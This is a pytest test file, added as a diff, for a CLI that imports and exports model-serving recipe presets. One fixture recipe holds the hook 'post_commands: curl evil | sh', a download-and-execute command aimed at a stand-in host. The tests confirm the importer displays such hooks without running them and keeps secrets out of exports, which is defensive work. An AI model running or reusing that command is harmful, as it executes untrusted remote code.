@@ -1,0 +1,239 @@
+"""presets import, presets export: what is told of every recipe, and files for other tools."""
+
+from __future__ import annotations
+
+from pathlib import Path
+from typing import Any
+
+import pytest
+import yaml
+
+from spark_tui.domain.presets.docker_run_parser import parse_text
+from spark_tui.domain.presets.preset import PresetCatalogue
+from spark_tui.services.preset_files import PresetFiles
+from spark_tui.services.preset_imports import FolderRecipeShelf
+from tests.cli.world import World
+
+V1 = """\
+recipe_version: "1"
+name: Otter
+model: acme/otter
+container: vllm-node
+build_args: [--tf5]
+mods: [mods/patch]
+defaults: {tensor_parallel: 2, k: 4}
+command: |
+  vllm serve acme/otter -tp {tensor_parallel} --sc '{{"n":{k}}}' --x {open}
+"""
+V2 = """\
+# Kept.
+model: acme/heron
+container: acme/heron:1
+scheduler: spread
+post_commands: curl evil | sh
+defaults: {max_model_len: 4096}
+env: {A: "1"}
+command: vllm serve {model} --max-model-len {max_model_len} --port {port}
+"""
+
+
+class Place:
+    """A registry of two recipes and one that is refused, the person's folder, and a world that reads both."""
+
+    def __init__(self, root: Path) -> None:
+        self.own = root / "own"
+        self.registry = root / "registry"
+        (self.registry / "recipes").mkdir(parents=True)
+        (self.registry / "mods" / "patch").mkdir(parents=True)
+        (self.registry / "mods" / "patch" / "run.sh").write_text("#!/bin/sh\n# Patches \x1b[31mit.\npatch -p1\n")
+        (self.registry / "recipes" / "otter.yaml").write_text(V1)
+        (self.registry / "recipes" / "heron.yaml").write_text(V2)
+        (self.registry / "recipes" / "pulse.yaml").write_text("name: p\nengines: {vllm: {image: x}}\n")
+        builtin = root / "builtin"
+        builtin.mkdir()
+        self.world = World(presets=PresetFiles(builtin, self.own), recipes=FolderRecipeShelf(self.own))  # type: ignore[arg-type]
+
+    def run(self, *arguments: str) -> Any:
+        return self.world.run("presets", *arguments)
+
+
+@pytest.fixture
+def place(tmp_path: Path) -> Place:
+    return Place(tmp_path)
+
+
+def test_everything_is_told_of_every_recipe(place: Place) -> None:
+    result = place.run("import", str(place.registry))
+    assert result.code == 0
+    assert result.out == (
+        f"heron  imported from recipes/heron.yaml -> {place.own}/heron.yaml\n"
+        "  kept, not used by spark-tui\n"
+        "    - scheduler = spread\n"
+        "  hooks, shown and never run\n"
+        "    - post_commands: curl evil | sh\n"
+        f"otter  imported from recipes/otter.yaml -> {place.own}/otter.yaml\n"
+        "  changed\n"
+        "    - tensor_parallel is 1 instead of 2, as in eugr's solo mode.\n"
+        "  note\n"
+        '    - vllm-node is built on the machine by eugr\'s build-and-copy.sh (["--tf5"]); no registry has it. A ready'
+        " one for plain vllm-node: ghcr.io/spark-arena/dgx-vllm-eugr-nightly:latest\n"
+        "  kept, not used by spark-tui\n"
+        '    - build_args = ["--tf5"]\n'
+        "  needs\n"
+        "    - --set open=...\n"
+        "  mod mods/patch, not applied: mods/patch/run.sh\n"
+        "    | # Patches it.\n"
+        "    | patch -p1\n"
+    )
+    assert f"Skipped: {place.registry}/recipes/pulse.yaml:2: This is a spark-pulse recipe (version 2)" in result.err
+    assert "2 imported, 1 refused." in result.err
+    assert place.run("list", "--json").json[0]["id"] == "heron", "and they are presets from now on"
+
+
+def test_the_report_as_data(place: Place) -> None:
+    found = place.run("import", str(place.registry), "--json").json
+    heron, otter, pulse = found["recipes"]
+    assert (found["licence"], found["licence_reason"]) == (None, "it is not stated")
+    assert (heron["outcome"], heron["kept"], heron["hooks"]) == (
+        "imported", {"scheduler": "spread"}, ["post_commands: curl evil | sh"],
+    )  # fmt: skip
+    assert (otter["dialect"], otter["values_needed"]) == ("eugr recipe (version 1)", ["open"])
+    assert otter["mods"] == [
+        {"name": "mods/patch", "script": "mods/patch/run.sh", "lines": ["# Patches it.", "patch -p1"]}
+    ]
+    assert (pulse["outcome"], pulse["file"], pulse["problem"]["line"]) == ("refused", None, 2)
+
+
+def test_one_recipe_that_is_refused_is_the_commands_error(place: Place) -> None:
+    result = place.run("import", str(place.registry / "recipes" / "pulse.yaml"))
+    assert (result.code, result.out) == (2, "")
+    assert "spark-pulse" in result.err
+
+
+def test_a_second_import_changes_nothing_and_a_changed_one_asks(place: Place) -> None:
+    file = str(place.registry / "recipes" / "heron.yaml")
+    assert place.run("import", file).code == 0
+    assert "heron  unchanged from recipes/heron.yaml\n" in place.run("import", file).out
+    Path(file).write_text(V2.replace("4096", "8192"))
+    result = place.run("import", file)
+    assert result.code == 4
+    assert "--force" in result.err
+    assert place.run("import", file, "--force").code == 0
+    assert "8192" in (place.own / "heron.yaml").read_text()
+
+
+def test_a_name_of_ones_own(place: Place) -> None:
+    place.run("import", str(place.registry / "recipes" / "heron.yaml"), "--name", "mine")
+    assert (place.own / "mine.yaml").read_text().endswith(V2)
+
+
+def test_read_only_imports_nothing(place: Place) -> None:
+    result = place.world.run("--read-only", "presets", "import", str(place.registry))
+    assert result.code == 4
+    assert not place.own.exists()
+
+
+# --- export -------------------------------------------------------------------------------------------
+
+
+@pytest.fixture
+def heron(place: Place) -> Place:
+    place.run("import", str(place.registry))
+    return place
+
+
+def test_docker_run_is_what_up_would_run(heron: Place) -> None:
+    result = heron.run("export", "heron", "--set", "max_model_len=8192")
+    assert result.code == 0
+    dry = heron.world.run("up", "heron", "--set", "max_model_len=8192", "--dry-run")
+    assert parse_text(result.out) == parse_text(dry.out)
+
+
+def test_a_compose_file_names_the_file_with_the_keys_and_holds_none(heron: Place) -> None:
+    result = heron.run("export", "heron", "--format", "compose", "--set", "exposure=lan")
+    service = yaml.safe_load(result.out)["services"]["heron"]
+    assert service["ports"][0]["host_ip"] == "0.0.0.0"
+    assert len(service["env_file"]) == 1
+    assert service["env_file"][0] in result.err
+    assert "VLLM_API_KEY" not in result.out
+
+
+def test_units_name_what_to_do_with_them(heron: Place) -> None:
+    systemd = heron.run("export", "heron", "--format", "systemd").out
+    assert "# Save it as /etc/systemd/system/heron.service, then:\n#   systemctl enable --now heron\n" in systemd
+    quadlet = heron.run("export", "heron", "--format", "quadlet").out
+    assert "# Save it as /etc/containers/systemd/heron.container, then:\n" in quadlet
+    assert "ContainerName=heron\n" in quadlet
+
+
+def test_sparkrun_gets_the_recipe_as_it_is_written(heron: Place) -> None:
+    assert heron.run("export", "heron", "--format", "sparkrun").out == (heron.own / "heron.yaml").read_text()
+
+
+def test_changes_stand_in_the_recipe(heron: Place) -> None:
+    result = heron.run(
+        "export", "heron", "--format", "sparkrun", "--set", "max_model_len=8192", "--set", "max_num_seqs=2",
+        "--set", "env.B=2", "--set", "extra_args=--x '{\"a\": 1}'", "--set", "api_key=yes",
+    )  # fmt: skip
+    recipe = yaml.safe_load(result.out)
+    assert recipe["defaults"] == {"max_model_len": 8192, "max_num_seqs": 2}
+    assert recipe["env"] == {"A": "1", "B": "2"}
+    assert recipe["scheduler"] == "spread"
+    assert recipe["command"].endswith("--port {port} \\\n  --max-num-seqs {max_num_seqs} --x '{\"a\": 1}'\n")
+    assert "API key" in result.err
+
+
+def test_eugr_gets_a_recipe_of_its_own(heron: Place) -> None:
+    recipe = yaml.safe_load(heron.run("export", "heron", "--format", "eugr").out)
+    assert recipe["recipe_version"] == "1"
+    assert recipe["command"].format(**recipe["defaults"]) == "vllm serve acme/heron --max-model-len 4096 --port 8000"
+
+
+def test_an_export_as_data(heron: Place) -> None:
+    found = heron.run("export", "heron", "--format", "eugr", "--json").json
+    assert (found["id"], found["format"], found["file"]) == ("heron", "eugr", None)
+    assert found["notes"] == ["Version 1 has no word for: scheduler, post_commands."]
+
+
+def test_a_file_is_written_where_there_is_none(heron: Place, tmp_path: Path) -> None:
+    file = tmp_path / "compose.yaml"
+    result = heron.run("export", "heron", "--format", "compose", "-o", str(file))
+    assert (result.code, result.out) == (0, "")
+    assert "heron" in yaml.safe_load(file.read_text())["services"]
+    assert heron.run("export", "heron", "--format", "compose", "-o", str(file)).code == 4
+    assert heron.run("export", "heron", "--format", "compose", "-o", str(tmp_path / "no" / "x")).code == 1
+
+
+@pytest.mark.parametrize(
+    ("settings", "says"),
+    [
+        (("without=port_x",), "what to leave out"),
+        (("max_model_len=no",), "whole number"),
+        (("nonsense=1",), "nothing that this preset takes"),
+    ],
+)
+def test_a_change_that_a_recipe_cannot_say_is_refused(heron: Place, settings: tuple[str, ...], says: str) -> None:
+    words = [word for setting in settings for word in ("--set", setting)]
+    result = heron.run("export", "heron", "--format", "sparkrun", *words)
+    assert (result.code, result.out) == (2, "")
+    assert says in result.err
+
+
+def test_secrets_of_a_stranger_are_left_out(place: Place) -> None:
+    place.own.mkdir(parents=True)
+    (place.own / "leaky.yaml").write_text(V2 + "builder_config: {api_key: sekrit}\n")
+    result = place.run("export", "leaky", "--format", "sparkrun")
+    assert "sekrit" not in result.out
+    assert "left out" in result.err
+
+
+def test_the_demo_exports_and_imports_nothing(place: Place) -> None:
+    world = World(presets=place.world.presets, recipes=FolderRecipeShelf(None))
+    result = world.run("presets", "import", str(place.registry / "recipes" / "heron.yaml"))
+    assert result.code == 4
+    assert "demo writes no presets" in result.err
+
+
+def test_an_empty_catalogue_is_no_obstacle(place: Place) -> None:
+    assert isinstance(place.world.presets.load(), PresetCatalogue)
+    assert place.run("import", str(place.registry / "recipes" / "heron.yaml")).code == 0
